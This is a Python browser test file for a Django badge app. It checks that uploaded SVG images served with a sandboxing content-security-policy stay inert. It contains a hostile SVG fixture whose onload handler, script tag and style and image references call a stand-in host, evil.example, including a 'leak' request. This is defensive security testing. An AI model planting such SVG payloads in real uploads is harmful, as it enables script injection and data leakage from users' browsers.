"""A stored SVG opened on its own, top-level from its media URL, runs no script and sends no
request beyond its own: the media response's policy sandboxes it, even for a file that
(through a checker's miss) still holds script, handlers and external references.

Every request the page makes is recorded (and any to another origin stopped there). A control
serves the same bytes without the media headers, to show the page would otherwise run the
script and reach out: the proof is that the headers make the difference."""

import uuid

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.utils import timezone

from badges.image_checks import checked_image
from badges.services.images import badge_image_set
from tests.factories import BadgeFactory
from tests.images.hostile import ACCEPTED, ICONS

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

CONTROL_ORIGIN = "http://control.test"
HOSTILE = b"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"
  onload="fetch('/beacon/onload')">
  <script>fetch('/beacon/script'); new Image().src = 'https://evil.example/leak';</script>
  <style>rect { fill: url(https://evil.example/paint.svg#p) }</style>
  <image href="https://evil.example/pixel.png" width="24" height="24"/>
  <rect width="24" height="24"/>
</svg>"""


class Recorder:
    """Every request the page makes; ``served`` URLs are answered with their SVG and no other
    header, those to other origins than ``allowed`` are stopped."""

    def __init__(self, page, *allowed: str):
        self.urls: list[str] = []
        self.allowed = allowed
        self.served = {f"{CONTROL_ORIGIN}/evil.svg": HOSTILE}
        page.route("**/*", self.handle)

    def handle(self, route):
        url = route.request.url
        self.urls.append(url)
        if url in self.served:
            route.fulfill(status=200, content_type="image/svg+xml", body=self.served[url])
        elif url.startswith(self.allowed):
            route.continue_()
        else:
            route.abort()


def visit(page, recorder: Recorder, url: str, settle: str):
    """Open ``url``: its response, and the requests its document made. They have all been
    delivered once a second page, ``settle``, has loaded."""
    start = len(recorder.urls)
    response = page.goto(url, wait_until="load")
    page.goto(settle, wait_until="load")
    made = recorder.urls[start:]
    return response, made[: made.index(settle)]


def test_without_the_media_headers_the_same_svg_runs_script_and_reaches_out(page, live_server):
    recorder = Recorder(page, CONTROL_ORIGIN, live_server.url)
    with page.expect_request(f"{CONTROL_ORIGIN}/beacon/onload"):  # the last to be sent
        page.goto(f"{CONTROL_ORIGIN}/evil.svg", wait_until="load")
    assert f"{CONTROL_ORIGIN}/beacon/script" in recorder.urls
    assert "https://evil.example/pixel.png" in recorder.urls


def test_a_stored_svg_holding_script_runs_none_and_sends_nothing(page, live_server):
    name = default_storage.save(f"badge-images/{uuid.uuid4().hex}.svg", ContentFile(HOSTILE))
    media = f"{live_server.url}/media/{name}"
    recorder = Recorder(page, live_server.url)

    response, made = visit(page, recorder, media, live_server.url + "/admin/")
    assert response.headers["content-security-policy"].endswith("sandbox")
    assert made == [media]


def test_an_uploaded_icon_opened_top_level_loads_nothing_more(page, live_server):
    image = badge_image_set(
        badge=BadgeFactory(),
        slot="issued",
        name="Trophy",
        content=ICONS["icon illustrator-trophy"],
        actor=None,
        now=timezone.now(),
    )
    media = live_server.url + image.file.url
    recorder = Recorder(page, live_server.url)

    response, made = visit(page, recorder, media, live_server.url + "/admin/")
    assert (response.status, response.headers["content-type"]) == (200, "image/svg+xml")
    assert made == [media]


def test_every_accepted_svg_as_stored_is_inert_even_without_the_media_headers(page, live_server):
    """The checks alone: what they store, served with no policy at all, runs no script and
    reaches nothing (the headers are a second line, not the only one)."""
    stored = {
        name: checked.content
        for name, content in {**ACCEPTED, **ICONS}.items()
        if (checked := checked_image(content)).content_type == "image/svg+xml"
    }
    recorder = Recorder(page, live_server.url)
    for number, (name, content) in enumerate(stored.items()):
        url = f"{CONTROL_ORIGIN}/stored-{number}.svg"
        recorder.served[url] = content
        _, made = visit(page, recorder, url, live_server.url + "/admin/")
        assert made == [url], name
